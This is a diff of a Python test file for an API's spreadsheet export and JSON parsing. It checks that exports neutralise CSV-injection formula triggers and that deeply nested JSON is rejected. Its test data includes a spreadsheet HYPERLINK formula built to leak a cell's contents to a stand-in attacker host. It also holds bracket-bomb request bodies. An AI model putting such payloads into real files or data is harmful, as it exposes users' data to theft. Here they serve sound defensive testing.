@@ -16,7 +16,7 @@ import sqlalchemy as sa
 
 from api import create_app
 from api.auth import create_token
-from api.exports import FORMULA_TRIGGERS, xlsx_bytes
+from api.exports import table_response
 from api.extensions import db
 from api.models import AccessLog, AllocationPair, AllocationRun, ApiToken, Referral, Worker
 from matcher import clock
@@ -25,6 +25,8 @@ from tests.api.conftest import make_app
 from tests.db import ON_POSTGRES
 
 HA_NOI_WARD = "00004"  # Phường Ba Đình, province 01
+#: OWASP's CSV-injection list: a cell starting with one of these is run as a formula.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Bình Minh")'
 
 
@@ -96,7 +98,7 @@ def test_allocation_export_writes_no_live_formula(client, world, auth, fmt):
 
 def test_export_writer_neutralises_every_trigger_and_keeps_numbers():
     texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "Bình Minh", "a=b"]
-    data = xlsx_bytes(["tên", "số"], [[t, -5] for t in texts])
+    data = table_response(["tên", "số"], [[t, -5] for t in texts], "x", "xlsx").data
 
     sheet = openpyxl.load_workbook(io.BytesIO(data)).active
     rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
@@ -373,7 +375,9 @@ def test_swagger_ui_does_not_persist_the_token(client):
 
 
 @pytest.mark.parametrize(
-    "body", ["[" * 100_000, '{"a":' * 50_000 + "1" + "}" * 50_000, "[" * 33 + "]" * 33]
+    "body",
+    ["[" * 100_000, '{"a":' * 50_000 + "1" + "}" * 50_000, "[" * 33 + "]" * 33],
+    ids=["100k-brackets", "50k-objects", "33-levels"],
 )
 def test_deeply_nested_json_is_400(client, world, auth, body):
     response = client.post(
